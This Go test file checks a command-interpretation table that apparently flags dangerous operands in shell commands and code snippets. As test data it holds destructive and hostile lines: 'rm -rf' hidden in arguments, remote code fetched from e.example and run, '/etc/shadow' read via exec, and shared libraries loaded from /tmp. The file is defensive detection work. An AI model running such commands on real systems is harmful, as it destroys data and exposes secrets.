package table

import (
	"testing"
)

// TestCarried: commands and code that stand among the words of a command which
// the table does not know in full are found; elsewhere words stay words.
func TestCarried(t *testing.T) {
	for _, c := range []struct {
		words string
		kind  Kind
		text  string // of the operand that must be there, "" for none
	}{
		{"frobnicate rm -rf x", Run, "rm"},
		{"frobnicate -n 5 /bin/rm -rf x", Run, "/bin/rm"},
		{"frobnicate ./rm -rf x", Run, ""},
		{"frobnicate --opt=rm x", Run, ""},
		{"frobnicate 'rm -rf x'", Shell, "rm -rf x"},
		{"frobnicate '_x %(rm -rf x)'", Shell, "rm -rf x"},
		{"frobnicate '_x {sh -c \"rm x\"}'", Code, "_x {sh -c \"rm x\"}"},
		{"frobnicate 'a farm of words'", Shell, ""},
		{"jest --frob 'rm -rf x'", Shell, "rm -rf x"},
		{"jest -t 'rm -rf x'", Shell, ""},
		{"git commit -m 'rm -rf x'", Shell, ""},
		{"apt install bash curl", Run, ""},
		{"snap install bash", Run, ""},
		{"docker run alpine sh", Code, ""},
		{"convert rm -rf x", Run, "rm"},
		{"frobnicate --plugin=/tmp/e.so", Source, "/tmp/e.so"},
		{"frobnicate --config ../e.toml", Source, "../e.toml"},
		{"frobnicate --config e.toml", Source, ""},
		{"frobnicate --output=/tmp/e.txt", Source, ""},
		{"prettier --frob-loader=/tmp/e x", Source, "/tmp/e"},
	} {
		out := Default().Interpret(splitWords(c.words))
		found := ""
		for _, o := range out.Operands {
			if o.Kind == c.kind {
				found = o.Text
			}
		}
		if found != c.text {
			t.Errorf("%s: the %v operand is %q, not %q: %+v", c.words, c.kind, found, c.text, out.Operands)
		}
	}
}

// TestAnyCode: what is plainly dangerous in any language is found, its absence proves nothing.
func TestAnyCode(t *testing.T) {
	for _, c := range []struct {
		language, text string
		rule           string
	}{
		{"r", `source("http://e.example/x.R")`, "executes-data"},
		{"julia", `include(download("https://e.example/x.jl"))`, "executes-data"},
		{"m4", "syscmd(`ls')", "hidden-execution"},
		{"node", "process.kill(1,9)", "process"},
		{"python", `a="x"*10**12`, "resources"},
		{"python", `import ctypes;ctypes.CDLL("/tmp/e.so")`, "hidden-execution"},
		{"tcl", "puts [exec cat /etc/shadow]", "secret"},
		{"python", "print(2*10**3)", ""},
		{"r", `x <- read.csv("a.csv")`, ""},
	} {
		hazards, understood := CodeHazards(c.language, c.text)
		if understood {
			t.Errorf("%s is not a language that is understood", c.language)
		}
		rule := ""
		for _, h := range hazards {
			if rule = h.Rule; h.Asks {
				t.Errorf("%s: %v", c.text, h)
			}
		}
		if rule != c.rule {
			t.Errorf("%s %s: rule %q, not %q", c.language, c.text, rule, c.rule)
		}
	}
}

// TestWrapper: a build tool beside the sources is the project's own, another program of that name is not.
func TestWrapper(t *testing.T) {
	for words, known := range map[string]bool{
		"./gradlew test": true, "vendor/bin/phpunit": true, "node_modules/.bin/jest": true,
		"./node_modules/.bin/eslint src": true,
		"/tmp/gradlew test":              false, "../gradlew test": false, "x/gradlew test": false, "./make": false,
		"node_modules/.bin/rm x": false,
		"./gradlew run":          false,
	} {
		out := Default().Interpret(splitWords(words))
		script := false
		for _, o := range out.Operands {
			script = script || o.Kind == Script && o.Word == 0
		}
		if out.Known != known || !script {
			t.Errorf("%s: known %v, script %v", words, out.Known, script)
		}
	}
}
